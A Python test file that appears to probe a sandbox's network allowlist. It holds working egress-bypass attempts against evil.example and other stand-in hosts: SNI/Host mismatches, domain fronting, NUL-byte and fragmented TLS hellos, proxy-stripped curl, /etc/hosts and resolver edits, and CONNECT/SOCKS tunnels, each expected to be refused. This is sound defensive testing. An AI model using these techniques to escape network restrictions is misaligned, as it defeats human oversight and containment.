"""TLS: the name in the handshake, the name of the address, the name in the request."""

from probe import Probe

NAMES = ("Refused: 421", "Refused: 403", "Refused: 400")

# A handshake whose first message is cut over many records, or bent. `change` gets the bytes of the hello.
BY_HAND = '''
import ssl
def shaken(host, name, change):
    peer = socket.create_connection((host, 443), 10); peer.settimeout(10)
    context = ssl._create_unverified_context()
    coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    line = context.wrap_bio(coming, going, server_hostname=name)
    def step(act):
        while True:
            try: return act()
            except ssl.SSLWantReadError: pass
            if going.pending: peer.sendall(change(going.read()) if step.first else going.read())
            step.first = False
            data = peer.recv(65536)
            if not data: raise Refused("closed")
            coming.write(data)
    step.first = True
    try: step(line.do_handshake)
    except ssl.SSLError as error: raise Refused("alert")
    line.write(request("POST", "/v1/chat/completions", name, b'{"model":"gpt-4o","messages":[{"role":"user","content":"x"}]}'))
    peer.sendall(going.read())
    return accepted(step(lambda: line.read(4096)))
def cut(hello):
    pieces = [hello[5:][at:at + 16] for at in range(0, len(hello) - 5, 16)]
    return b"".join(hello[:3] + struct.pack(">H", len(piece)) + piece for piece in pieces)
'''

ALL = (
    Probe("host-mismatch", "a granted name in the handshake, another in Host", '''
def attack():
    import http.client
    c = http.client.HTTPSConnection("api.openai.com", timeout=10)
    c.putrequest("POST", "/v1/chat/completions", skip_host=True); c.putheader("Host", "evil.example")
    body = b'{"model":"gpt-4o","messages":[{"role":"user","content":"host-mismatch"}]}'
    c.putheader("Content-Type", "application/json"); c.putheader("Content-Length", str(len(body))); c.endheaders(body)
    r = c.getresponse(); r.read()
    if r.status != 200: raise Refused(str(r.status))
    return r.status''', ("Refused: 421", "Refused: 403"), record="request.refused"),
    Probe("sni-mismatch", "a granted address and Host, another name in the handshake", '''
def attack():
    import http.client, ssl
    c = http.client.HTTPSConnection("api.openai.com", timeout=10)
    c.sock = ssl.create_default_context().wrap_socket(socket.create_connection(("api.openai.com", 443), 10), server_hostname="evil.example")
    c.request("POST", "/v1/chat/completions", b'{"model":"gpt-4o","messages":[{"role":"user","content":"x"}]}', {"Content-Type": "application/json"})
    r = c.getresponse(); r.read()
    if r.status != 200: raise Refused(str(r.status))
    return r.status''', ("Refused: 421", "Refused: 403")),
    Probe("fronting", "a granted name in the handshake, another granted one in Host", '''
def attack():
    return accepted(exchange(tls("gullible.example"), request("POST", "/v1/messages", "api.anthropic.com", b"{}")))''', NAMES, record="request.refused"),
    Probe("no-sni", "no name in the handshake, and another in Host than the address has", '''
def attack(): return accepted(exchange(tls("gullible.example", sni=None), request("GET", "/open", "evil.example")))''', NAMES, record="request.refused"),
    Probe("denied-address", "the address of a name that is not granted, a granted one in handshake and Host", '''
def attack():
    peer = socket.create_connection(("evil.example", 443), 10)
    return accepted(exchange(tls("api.openai.com", peer=peer), request("GET", "/v1/models", "api.openai.com")))''', NAMES, record="request.refused"),
    Probe("denied-host", "plainly a host that is not granted", '''
def attack(): return accepted(exchange(tls("evil.example"), request("GET", "/", "evil.example")))''', NAMES, record="request.refused"),
    Probe("no-proxy", "the same by a client that was told to use no proxy", '''
def attack():
    import subprocess
    for name in list(os.environ):
        if "proxy" in name.lower(): del os.environ[name]
    os.environ["NO_PROXY"] = "*"
    words = ["curl", "-sk", "--noproxy", "*", "-o", "/dev/null", "-w", "%{http_code}", "https://evil.example/"]
    code = subprocess.run(words, capture_output=True, text=True).stdout
    if code != "200": raise Refused(code)
    return code''', NAMES, record="request.refused"),
    Probe("hosts-file", "an /etc/hosts of its own", '''
def attack(): open("/etc/hosts", "a").write("127.0.0.2 gullible.example\\n"); return "written"''', ("EROFS", "EACCES", "EPERM")),
    Probe("resolver-file", "a name server of its own", '''
def attack(): open("/etc/resolv.conf", "a").write("# 8.8.8.8\\n"); return "written"''', ("EROFS", "EACCES", "EPERM")),
    Probe("cut-hello", "another name in a hello that is cut over many records", BY_HAND + '''
def attack():
    return shaken("api.openai.com", "evil.example", cut)''', NAMES + ("Refused: closed", "Refused: alert", "ECONNRESET")),
    Probe("nul-sni", "a name that ends early for those who read it as a C string", BY_HAND + '''
def attack():
    def bend(hello): return hello.replace(b"api.openai.comx.evil.example", b"api.openai.com\\0.evil.example")
    peer = socket.create_connection(("api.openai.com", 8444), 10)
    context = ssl._create_unverified_context(); coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    line = context.wrap_bio(coming, going, server_hostname="api.openai.comx.evil.example")
    try: line.do_handshake()
    except ssl.SSLWantReadError: pass
    return arena_answer(peer, bend(going.read()))''',
          ("Refused: answered by the cage, not by the arena", "ECONNRESET", "BrokenPipeError"), record="connection.refused"),
    Probe("plain-http", "plain HTTP to a granted name", '''
def attack(): return arena_answer(socket.create_connection(("api.openai.com", 80), 5), request("GET", "/v1/models", "api.openai.com"))''',
          ("Refused: answered by the cage, not by the arena", "ECONNRESET"), record="request.refused"),
    Probe("plain-http2", "HTTP/2 without TLS", '''
def attack(): return arena_answer(socket.create_connection(("api.openai.com", 80), 5), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))''',
          ("Refused: answered by the cage, not by the arena", "ECONNRESET"), record="connection.refused"),
    Probe("other-port", "a granted name on a port that is not granted", '''
def attack(): return arena_answer(socket.create_connection(("api.openai.com", 7777), 5), bytes([0, 1, 2, 3]))''',
          ("Refused: answered by the cage, not by the arena", "ECONNRESET"), record="connection.refused"),
    Probe("plain-connect", "CONNECT, as to a proxy that stands somewhere", '''
def attack(): return arena_answer(socket.create_connection(("8.8.8.8", 8443), 5), b"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")''',
          ("Refused: answered by the cage, not by the arena", "ECONNRESET"), record="connection.refused"),
    Probe("socks", "SOCKS, as to a proxy that stands somewhere, with NUL in the name", '''
def attack(): return arena_answer(socket.create_connection(("8.8.8.8", 8443), 5), b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03\\x0fapi.openai.com\\0\\x01\\xbb")''',
          ("Refused: answered by the cage, not by the arena", "ECONNRESET"), record="connection.refused"),
)
